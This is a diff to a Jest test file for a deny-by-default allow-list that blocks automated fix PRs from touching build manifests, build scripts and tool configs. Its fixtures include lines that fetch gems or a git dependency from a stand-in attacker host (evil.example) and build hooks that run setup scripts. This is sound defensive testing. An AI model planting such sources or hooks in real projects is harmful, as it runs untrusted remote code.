@@ -43,7 +43,24 @@ describe('fix-PR file allow-list (deny by default)', () => {
     expect(!result.ok && result.reason).toMatch(why);
   });
 
-  it.each(['src/cart.ts', 'lib/tax.py', 'tests/test_tax.py', 'src/__tests__/cart.test.tsx', 'test/fixtures/order.json', 'docs/guide.md'])('allows %s', (path) => {
+  it.each([
+    // Names a tool reads its manifest, build script or start-up configuration from, whose extension alone would pass.
+    ['gems.rb', /build manifest/, 'source "https://gems.evil.example"'],
+    ['engines/billing/gems.rb', /build manifest/, 'gem "billing-helpers", git: "https://evil.example/h.git"'],
+    ['Rakefile.rb', /build manifest/, 'task(:default) { sh "./bin/setup" }'],
+    ['rakefile.rb', /build manifest/, 'task(:default) { sh "./bin/setup" }'],
+    ['build.zig', /build script/, '    _ = b.addSystemCommand(&.{ "sh", "-c", "./setup" });'],
+    ['.php-cs-fixer.dist.php', /tool configuration/, 'system("./setup");'],
+    ['.php-cs-fixer.php', /tool configuration/, 'system("./setup");'],
+  ])('refuses %s, which its tool runs or installs from, though its extension is a source one', (path, why, added) => {
+    // Act
+    const result = checkPatch(gitDiff(path, [' a', '-b', `+${added}`]));
+    // Assert
+    expect(!result.ok && result.reason).toMatch(/outside the fix-PR allow-list/);
+    expect(!result.ok && result.reason).toMatch(why);
+  });
+
+  it.each(['src/cart.ts', 'lib/tax.py', 'lib/gems.rb.erb.md', 'lib/build_zig.rb', 'src/rakefile_helpers.rb', 'tests/test_tax.py', 'src/__tests__/cart.test.tsx', 'test/fixtures/order.json', 'docs/guide.md'])('allows %s', (path) => {
     expect(notAllowListedReason(path)).toBeNull();
     expect(checkPatch(gitDiff(path)).ok).toBe(true);
   });
